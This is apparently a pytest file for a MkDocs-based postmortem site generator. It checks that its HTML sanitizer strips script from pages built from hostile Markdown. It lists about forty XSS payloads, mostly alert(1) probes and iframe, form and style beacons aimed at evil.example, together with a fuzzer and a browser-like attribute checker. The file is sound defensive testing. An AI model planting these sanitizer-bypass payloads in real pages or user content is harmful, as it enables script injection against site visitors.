"""Whatever a postmortem's Markdown becomes, the published page runs no script of its author's.

Each hostile body below once passed `pmkb check --strict` and `mkdocs build --strict` with
script that ran on page load (the regex sanitizer modelled Markdown and HTML differently from how
they parse). The page is now sanitized as HTML after conversion; these tests read the built
pages back and judge them by what a browser would do with them.
"""

from __future__ import annotations

import html
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import BODY_TEMPLATE, BUILD_EPOCH, build, make_project, postmortem, read
from pmkb.site.safe_html import sanitize

# What the example site and most Material sites enable, attr_list and md_in_html included: they
# are what let an author write attributes and raw HTML blocks the old screen did not expect.
EXTENSIONS: list[object] = [
    "admonition",
    "attr_list",
    "md_in_html",
    "tables",
    "footnotes",
    "def_list",
    "abbr",
    {"toc": {"permalink": True}},
    "pymdownx.superfences",
    "pymdownx.details",
    "pymdownx.highlight",
    "pymdownx.tasklist",
    "pymdownx.tabbed",
]

HOSTILE_BODIES = {
    "script": "<script>alert(1)</script>",
    "comment closed by <!-->": "<!--> <img src=x onerror=alert(1)> -->",
    "comment closed by --!>": "<!-- x --!> <img src=x onerror=alert(1)> -->",
    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
    "code span across lines": "`a\n<img src=x onerror=alert(1)>`b <svg onload=alert(1)>",
    "tag in an indented list continuation": "- item\n\n    <img src=x onerror=alert(1)>\n",
    "attr_list on a paragraph": "Text.\n{: onfocus=alert(1) autofocus tabindex=1 }",
    "attr_list on a link": "[x](https://example.com){: onmouseover=alert(1) }",
    "attr_list on a heading": "### Heading {: onclick=alert(1) }",
    "entity-encoded scheme": "[x](jav&#x61;script:alert(1))",
    "tab-split scheme": "[x](java\tscript:alert(1))",
    "newline-split scheme": "[x](<java\nscript:alert(1)>)",
    "upper-case scheme": "[x](JAVASCRIPT:alert(1))",
    "data scheme": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript scheme": "[x](vbscript:msgbox(1))",
    "reference in a quote": "> [x][r]\n>\n> [r]: javascript:alert(1)",
    "reference in a list item": "- [x][r]\n\n  [r]: javascript:alert(1)",
    "link target on the next line": "[x](\njavascript:alert(1))",
    "autolink": "<javascript:alert(1)>",
    "image": "![x](javascript:alert(1))",
    "md_in_html block": '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "style element": "<style>body{background:url(https://evil.example/x)}</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "srcset": '<img srcset="javascript:alert(1) 1x">',
    "details summary": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "unclosed tag": "<img src=x onerror=alert(1)",
    "nested quotes": "<a href='java&#115;cript:alert(1)'>x</a>",
    "html in a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "html in a footnote": "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "html in an admonition": '!!! note "<img src=x onerror=alert(1)>"\n    body',
    "target blank": '<a href="https://evil.example" target="_blank">x</a>',
    "placeholder lookalike": "pmkb-block-0000000000000000-0",
}

ALLOWED_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster"}
# Material's own icons are inline SVG: those are judged by their attributes, as every element is.
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "object", "embed", "form", "button", "meta", "base", "style", "link",
    "frame", "frameset", "template",
}  # fmt: skip


class _Judge(HTMLParser):
    """Every element and attribute of a page's content, judged as a browser would run it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"target", "autofocus", "formaction"}:
                self.problems.append(f"<{tag} {name}>")
            if name == "style" and value and "url(" in value.lower():
                self.problems.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES and value:
                # Browsers drop tabs and newlines inside a URL and ignore leading spaces.
                url = re.sub(r"[\t\n\r]", "", html.unescape(value)).strip().lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
                if scheme and not url.startswith(ALLOWED_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>")


def problems_in(page_html: str) -> list[str]:
    judge = _Judge()
    judge.feed(page_html)
    judge.close()
    return judge.problems


def _content(page_html: str) -> str:
    """The part of a built page that comes from its Markdown (Material's article)."""
    start = page_html.index('<article class="md-content__inner md-typeset">')
    return page_html[start : page_html.index("</article>", start)]


def _hostile_body(snippet: str) -> str:
    return BODY_TEMPLATE.format(summary=f"Before.\n\n{snippet}\n\nAfter the hostile part.")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-bodies")
    postmortems = {
        f"case-{number:02d}.md": postmortem(
            f"Case {number}", "2024-01-01", body=_hostile_body(snippet)
        )
        for number, snippet in enumerate(HOSTILE_BODIES.values())
    }
    make_project(root, postmortems, site=True, markdown_extensions=EXTENSIONS)
    result = build(root, strict=True)
    assert result.returncode == 0, result.stderr
    return root


@pytest.mark.parametrize(("number", "case"), list(enumerate(HOSTILE_BODIES)))
def test_no_hostile_body_runs_script_in_its_page(
    hostile_site: Path, number: int, case: str
) -> None:
    page = read(hostile_site, f"incidents/case-{number:02d}/index.html")
    assert problems_in(_content(page)) == [], case
    # The rest of the page survives what came before it: the card, the sections after, the lists.
    assert "After the hostile part." in page or case in {"unclosed tag"}, case
    assert 'class="pmkb-card"' in page and 'class="pmkb-empty"' in page, case


def test_the_placeholder_of_a_block_cannot_be_forged(hostile_site: Path) -> None:
    number = list(HOSTILE_BODIES).index("placeholder lookalike")
    page = read(hostile_site, f"incidents/case-{number:02d}/index.html")
    assert "pmkb-block-0000000000000000-0" in page  # shown as the author wrote it
    assert not re.search(r"pmkb-block-[0-9a-f]{16}-\d+", page.replace("0" * 16, ""))


def test_every_page_of_the_hostile_site_is_clean(hostile_site: Path) -> None:
    pages = sorted((hostile_site / "site").rglob("*.html"))
    assert len(pages) > len(HOSTILE_BODIES)
    for path in pages:
        text = path.read_text(encoding="utf-8")
        if '<article class="md-content__inner md-typeset">' in text:
            # The incidents table's filters are a form of pmkb's own, with nothing to submit.
            content = re.sub(
                r'<form class="pmkb-filters".*?</form>', "", _content(text), flags=re.S
            )
            assert problems_in(content) == [], path


GOOD_BODY = """
## Summary

A summary with **bold**, a [link](https://example.com/a?b=1), a [relative link](../other/),
mail to <ops@example.com>, an ![image](https://example.com/graph.png) and a
![relative image](graph.png){ width="300" }, and an abbreviation: SLO.

*[SLO]: Service level objective

!!! warning "Watch out"
    An admonition.

??? note "Details"
    Hidden until opened.

| Left | Right |
|:-----|------:|
| a    | 1     |

```python
print("highlighted")
```

- [x] done task
- [ ] open task

=== "Tab one"
    First.

=== "Tab two"
    Second.

Term
:   Definition.

A footnote.[^1]

[^1]: The note.

<kbd>Ctrl</kbd>+<kbd>C</kbd>, <mark>marked</mark>, <abbr title="Time to detect">TTD</abbr>.

## Impact

Impact.

## Timeline

- 10:00 UTC — Start.
- 10:05 UTC — Detected.

## Contributing factors

Factors.

## Lessons learned

Lessons.
"""


@pytest.fixture(scope="module")
def rich_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rich")
    make_project(
        root,
        {"rich.md": postmortem("Rich", "2024-01-01", body=GOOD_BODY)},
        site=True,
        markdown_extensions=EXTENSIONS,
    )
    result = build(root)  # not strict: the relative image and link lead nowhere in this site
    assert result.returncode == 0, result.stderr
    return root


@pytest.mark.parametrize(
    "kept",
    [
        '<h2 id="summary">Summary<a class="headerlink" href="#summary" title="Permanent link">',
        '<a href="https://example.com/a?b=1">link</a>',
        '<a href="../other/">relative link</a>',
        'href="mailto:',
        '<img alt="image" src="https://example.com/graph.png">',
        'src="graph.png" width="300">',
        '<abbr title="Service level objective">SLO</abbr>',
        '<div class="admonition warning">',
        '<p class="admonition-title">Watch out</p>',
        '<details class="note">',
        "<summary>Details</summary>",
        '<th style="text-align:left">Left</th>',
        '<div class="highlight"><pre><span></span><code><span class="nb">print</span>',
        '<input type="checkbox" disabled="" checked="">',
        '<div class="tabbed-set" data-tabs="1:2">',
        '<input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio">',
        '<label for="__tabbed_1_1">Tab one</label>',
        "<dt>Term</dt>",
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        '<li id="fn:1">',
        "<kbd>Ctrl</kbd>",
        "<mark>marked</mark>",
    ],
)
def test_what_markdown_and_its_extensions_make_is_kept(rich_site: Path, kept: str) -> None:
    assert kept in _content(read(rich_site, "incidents/rich/index.html"))


def test_trust_html_publishes_raw_html_as_written(tmp_path: Path) -> None:
    body = _hostile_body('<div class="x" onclick="go()">raw</div><script>init()</script>')
    make_project(
        tmp_path,
        {"raw.md": postmortem("Raw", "2024-01-01", body=body)},
        options={"trust_html": True},
        site=True,
        markdown_extensions=EXTENSIONS,
    )
    assert build(tmp_path, strict=True).returncode == 0
    page = read(tmp_path, "incidents/raw/index.html")
    assert '<div class="x" onclick="go()">raw</div>\n<script>init()</script>' in page


_MARKDOWN = markdown.Markdown(
    extensions=["admonition", "attr_list", "md_in_html", "tables", "footnotes", "toc"]
)
_PIECES = st.sampled_from(
    [
        "<", ">", "</", "<!--", "-->", "--!>", "<!-->", "`", "\\", "[", "]", "(", ")", "{:", "}",
        "\n", "\n\n", "    ", "- ", "> ", "!", "&#x61;", "&#", ";", "\t", '"', "'", "=",
        "javascript:", "java\tscript:", "data:", "img", "svg", "script", "a", "href", "src",
        "onerror", "onload", "alert(1)", "x", " ", "markdown=1", "style", "url(", "[r]: ",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pieces=st.lists(_PIECES, max_size=40))
def test_any_markdown_from_hostile_pieces_converts_to_clean_html(pieces: list[str]) -> None:
    _MARKDOWN.reset()
    assert problems_in(sanitize(_MARKDOWN.convert("".join(pieces)))) == []


def test_generate_hands_other_engines_sanitized_bodies(hostile_site: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": BUILD_EPOCH}
    pmkb = [sys.executable, "-m", "pmkb.cli"]
    generated = subprocess.run(
        [*pmkb, "generate", "--out", str(out)], cwd=hostile_site, env=env, capture_output=True
    )
    assert generated.returncode == 0, generated.stderr
    built = build(out)
    assert built.returncode == 0, built.stderr
    for number, case in enumerate(HOSTILE_BODIES):
        page = (out / "site" / "incidents" / f"case-{number:02d}" / "index.html").read_text(
            encoding="utf-8"
        )
        assert problems_in(_content(page)) == [], case
        # The table of contents is still built from the body's headings.
        assert 'href="#summary"' in page and 'href="#lessons-learned"' in page, case


def test_aliases_and_names_reach_the_search_index_escaped(tmp_path: Path) -> None:
    alias = "<img src=x onerror=alert(3)>"
    factors = {
        "config-change": {
            "name": "Config <b>change</b>",
            "category": "Change",
            "description": "d",
            "aliases": [alias],
        }
    }
    make_project(
        tmp_path,
        {"a.md": postmortem("A", "2024-01-01")},
        factors=factors,
        options={"search": "full"},  # Material's index; the faceted one is tests/test_search.py's
        site=True,
    )
    assert build(tmp_path, strict=True).returncode == 0
    index = read(tmp_path, "search/search_index.json")
    docs = yaml.safe_load(index)["docs"]  # JSON is YAML
    tags = [tag for doc in docs for tag in doc.get("tags", [])]
    assert "\u2039img src=x onerror=alert(3)\u203a" in tags  # shown, never parsed as HTML
    assert alias not in index and "<b>change" not in index.replace("\\u003c", "<")


@settings(max_examples=200, deadline=None)
@given(title=st.text(max_size=40), sentence=st.text(max_size=40))
def test_no_character_of_a_title_breaks_the_front_matter(title: str, sentence: str) -> None:
    from mkdocs.utils.meta import get_data

    from pmkb.plugin.conversions import front_matter_values, split_front_matter
    from pmkb.site.pages.text import front_matter, meta_text

    text = front_matter(title, description=meta_text(sentence), tags=[meta_text(sentence)])
    assert "\n" not in text  # MkDocs finds the front matter's end by its line of dashes
    meta = yaml.safe_load(text)
    assert meta == {
        "title": meta_text(title),
        "description": meta_text(sentence),
        "tags": [meta_text(sentence)],
    }
    # A page handed to a worker is split where its front matter ends, without parsing it: as
    # MkDocs' reader splits it.
    page = f"---\n{text}\n---\n\n\n{sentence}\n"
    assert split_front_matter(page) == (f"---\n{text}\n---\n", get_data(page)[0])
    # MkDocs reads the page without it: the plugin gives the page the same values.
    assert front_matter_values(f"---\n{text}\n---\n") == get_data(page)[1] == meta
